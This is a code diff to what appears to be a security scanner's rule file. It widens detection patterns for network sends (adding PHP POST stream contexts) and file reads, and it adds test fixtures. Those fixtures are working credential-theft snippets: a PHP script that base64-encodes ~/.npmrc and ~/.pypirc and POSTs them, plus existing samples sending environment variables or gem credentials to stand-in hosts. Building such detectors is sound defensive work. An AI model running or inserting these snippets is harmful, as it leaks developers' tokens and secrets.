@@ -117,13 +117,13 @@ function nearbyLines(text: string, index: number, radius: number): string {
 
 // Network sends that carry data (a plain GET download is not a sink).
 const NETWORK_SEND =
-  /\b(?:requests|httpx|session|client|http)\.(?:post|put|patch)\s*\(|\b(?:urlopen|Request)\s*\([^)\n]{0,200}\bdata\s*=|\b(?:urllib\.request|request|urllib2)\.Request\s*\(\s*(?:[^,()\n]|\([^()\n]{0,80}\)){1,120},\s*(?!None\b|headers\s*=|method\s*=)[\w"'(]|\bhttp\.client\.HTTPS?Connection\b|\bfetch\s*\([^)]{0,300}?(?:method\s*:\s*["'`](?:POST|PUT|PATCH)|body\s*:)|\baxios\.(?:post|put|patch)\s*\(|\baxios\s*\(\s*\{[^}]{0,200}method\s*:\s*["'](?:post|put)|\bhttps?\.request\s*\(|\bXMLHttpRequest\b|\bnavigator\.sendBeacon\s*\(|\bcurl\b(?:[^\n\\]|\\\r?\n?){0,300}?(?:\s-d\b|\s--data\b|--data-\w+|\s-F\b|\s--form\b|\s-T\b|--upload-file|\s-X\s*["']?(?:POST|PUT)|@-)|\bwget\b[^\n]{0,200}?--(?:post|body)-(?:data|file)|(?<![\w-])(?:nc|ncat|netcat|socat)\s+(?:-\w+\s+){0,4}[\w.-]+\.[a-z]{2,}\s+\d{2,5}\b|\bsocket\.(?:socket|create_connection)\s*\(|\.sendall\s*\(|\bsock\w*\.send\s*\(|\bsmtplib\.SMTP|\bscp\s+[^\n]{0,200}\s[\w.-]+@[\w.-]+:|\brsync\s+[^\n]{0,200}\s[\w.-]+@[\w.-]+:|\bInvoke-(?:WebRequest|RestMethod)\b[^\n]{0,200}-(?:Method\s+Post|Body|InFile)|\b(?:iwr|irm)\b[^\n]{0,200}-(?:Method\s+Post|Body|InFile)|\bNet::HTTP\.post|\bhttp\.Post(?:Form)?\s*\(|\b\w+\.Post\s*\([^,\n]{1,120},\s*"[\w/.+-]+"\s*,|\bhttp\.NewRequest(?:WithContext)?\s*\([^)\n]{0,40}?["'](?:POST|PUT)["']|\bUpload(?:String|File|Data)\s*\(|\bTcpStream::connect\w*\s*\(|\b(?:ureq|reqwest(?:::blocking)?)::(?:post|Client::new\(\)\s*\.post)\s*\(|\bstream_context_create\s*\([^;]{0,300}?["']method["']\s*=>\s*["'](?:POST|PUT)|\bCURLOPT_POSTFIELDS\b|\b(?:dig|nslookup)\s+[^\n]{0,80}\$|["'`]curl["'`]\s*,\s*\[[^\]]{0,400}?["'`]-(?:d|F|T|-data[\w-]*|-form|-upload-file)["'`]|\bsocket\.(?:getaddrinfo|gethostbyname(?:_ex)?)\s*\(\s*(?!["'])|\bdns\.resolver\.(?:resolve|query)\s*\(\s*(?!["'])|\bdns\.(?:promises\.)?(?:lookup|resolve\w*)\s*\(\s*(?!["'])|\bnet\.Lookup(?:Host|TXT|IP)\s*\(\s*(?!")/gi;
+  /\b(?:requests|httpx|session|client|http)\.(?:post|put|patch)\s*\(|\b(?:urlopen|Request)\s*\([^)\n]{0,200}\bdata\s*=|\b(?:urllib\.request|request|urllib2)\.Request\s*\(\s*(?:[^,()\n]|\([^()\n]{0,80}\)){1,120},\s*(?!None\b|headers\s*=|method\s*=)[\w"'(]|\bhttp\.client\.HTTPS?Connection\b|\bfetch\s*\([^)]{0,300}?(?:method\s*:\s*["'`](?:POST|PUT|PATCH)|body\s*:)|\baxios\.(?:post|put|patch)\s*\(|\baxios\s*\(\s*\{[^}]{0,200}method\s*:\s*["'](?:post|put)|\bhttps?\.request\s*\(|\bXMLHttpRequest\b|\bnavigator\.sendBeacon\s*\(|\bcurl\b(?:[^\n\\]|\\\r?\n?){0,300}?(?:\s-d\b|\s--data\b|--data-\w+|\s-F\b|\s--form\b|\s-T\b|--upload-file|\s-X\s*["']?(?:POST|PUT)|@-)|\bwget\b[^\n]{0,200}?--(?:post|body)-(?:data|file)|(?<![\w-])(?:nc|ncat|netcat|socat)\s+(?:-\w+\s+){0,4}[\w.-]+\.[a-z]{2,}\s+\d{2,5}\b|\bsocket\.(?:socket|create_connection)\s*\(|\.sendall\s*\(|\bsock\w*\.send\s*\(|\bsmtplib\.SMTP|\bscp\s+[^\n]{0,200}\s[\w.-]+@[\w.-]+:|\brsync\s+[^\n]{0,200}\s[\w.-]+@[\w.-]+:|\bInvoke-(?:WebRequest|RestMethod)\b[^\n]{0,200}-(?:Method\s+Post|Body|InFile)|\b(?:iwr|irm)\b[^\n]{0,200}-(?:Method\s+Post|Body|InFile)|\bNet::HTTP\.post|\bhttp\.Post(?:Form)?\s*\(|\b\w+\.Post\s*\([^,\n]{1,120},\s*"[\w/.+-]+"\s*,|\bhttp\.NewRequest(?:WithContext)?\s*\([^)\n]{0,40}?["'](?:POST|PUT)["']|\bUpload(?:String|File|Data)\s*\(|\bTcpStream::connect\w*\s*\(|\b(?:ureq|reqwest(?:::blocking)?)::(?:post|Client::new\(\)\s*\.post)\s*\(|\bstream_context_create\s*\([^;]{0,300}?["']method["']\s*=>\s*["'](?:POST|PUT)|\[\s*["']http["']\s*=>\s*\[[^\]]{0,200}?["']method["']\s*=>\s*["'](?:POST|PUT)|\bCURLOPT_POSTFIELDS\b|\b(?:dig|nslookup)\s+[^\n]{0,80}\$|["'`]curl["'`]\s*,\s*\[[^\]]{0,400}?["'`]-(?:d|F|T|-data[\w-]*|-form|-upload-file)["'`]|\bsocket\.(?:getaddrinfo|gethostbyname(?:_ex)?)\s*\(\s*(?!["'])|\bdns\.resolver\.(?:resolve|query)\s*\(\s*(?!["'])|\bdns\.(?:promises\.)?(?:lookup|resolve\w*)\s*\(\s*(?!["'])|\bnet\.Lookup(?:Host|TXT|IP)\s*\(\s*(?!")/gi;
 
 const NETWORK_SEND_ONE = new RegExp(NETWORK_SEND.source, 'i');
 
 // Reading a file's content, for the path-based sources.
 const READ_OP =
-  /\bos\.ReadFile\b|\bioutil\.ReadFile\b|\b(?:cat|less|head|tail|base64|xxd|strings|cp|tar|zip|7z|sqlite3|Get-Content|find|readFile|readFileSync|read_text|read_bytes|readlines|fopen|glob|copyfile|copytree|listdir|readdir)\b|\bopen\s*\(|\.read\s*\(|\bfs\.\w+/;
+  /\bos\.ReadFile\b|\bioutil\.ReadFile\b|\b(?:cat|less|head|tail|base64|xxd|strings|cp|tar|zip|7z|sqlite3|Get-Content|find|readFile|readFileSync|read_text|read_bytes|readlines|fopen|file_get_contents|glob|copyfile|copytree|listdir|readdir)\b|\bopen\s*\(|\.read\s*\(|\bfs\.\w+/;
 const COMMENT_LINE = /^\s*(?:#(?!!)|\/\/|\/\*|\*|--|REM\b|::)/;
 const SETUP_LINE =
   /(?<![\w./-])(?:ssh|ssh-add|ssh-keygen|ssh-copy-id|chmod|chown|mkdir|touch|kubectl|helm)\s|load_dotenv|dotenv|\.gitignore|KUBECONFIG|--kubeconfig|IdentityFile|GIT_SSH_COMMAND|\s-i\s+["']?~?\/?[\w./-]*\.ssh|>>?\s*["']?[~$\w./-]*$/;
@@ -212,7 +212,9 @@ function codeSinks(file: FileView, from: number, to: number, re: RegExp = NETWOR
   let m: RegExpExecArray | null;
   while ((m = execRegexIn(re, region, file.text, from)) !== null) {
     const index = from + m.index;
-    if (!COMMENT_LINE.test(file.lineAt(index))) hits.push({ index, length: m[0].length, label: m[0].split(/\s/)[0] });
+    // PHP's options array (`['http' => ['method' => 'POST', ...]]`) is named for what it does.
+    const label = m[0].startsWith('[') ? 'a PHP POST stream context' : m[0].split(/\s/)[0];
+    if (!COMMENT_LINE.test(file.lineAt(index))) hits.push({ index, length: m[0].length, label });
     if (hits.length >= 10) break;
   }
   return hits;
@@ -1401,6 +1403,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'bin/audit.php', text: '<?php\n$paths = [\n    "$h/.npmrc",\n    "$h/.pypirc",\n];\nforeach ($paths as $p) { $ctx[$p] = base64_encode((string) file_get_contents($p)); }\n$opts = [\'http\' => [\'method\' => \'POST\', \'content\' => json_encode($ctx)]];\n$resp = @file_get_contents(LICENSE_SERVER, false, stream_context_create($opts));\n' },
         { path: 'templates/next.config.js', text: "const body = JSON.stringify({ cfg: Object.fromEntries(Object.entries(process.env)) });\nrequire('child_process').execFileSync('curl', [\n  '-s', '-X', 'POST',\n  '-d', body, 'https://vitals.example-stats.dev/v1/build',\n]);\n" },
         { path: 'scripts/measure.js', text: 'const payload = JSON.stringify({\n  durationMs: ms,\n  env: process.env,\n});\nconst req = https.request({ host: "stats.example-hub.org", method: "POST" });\nreq.end(payload);\n' },
         { path: 'scripts/preflight.rb', text: "cred_file = File.join(Dir.home, '.gem', 'credentials')\ncreds = File.exist?(cred_file) ? File.read(cred_file) : ''\npayload = { blob: Base64.strict_encode64(creds) }\nNet::HTTP.post(uri, payload.to_json, 'Content-Type' => 'application/json')\n" },
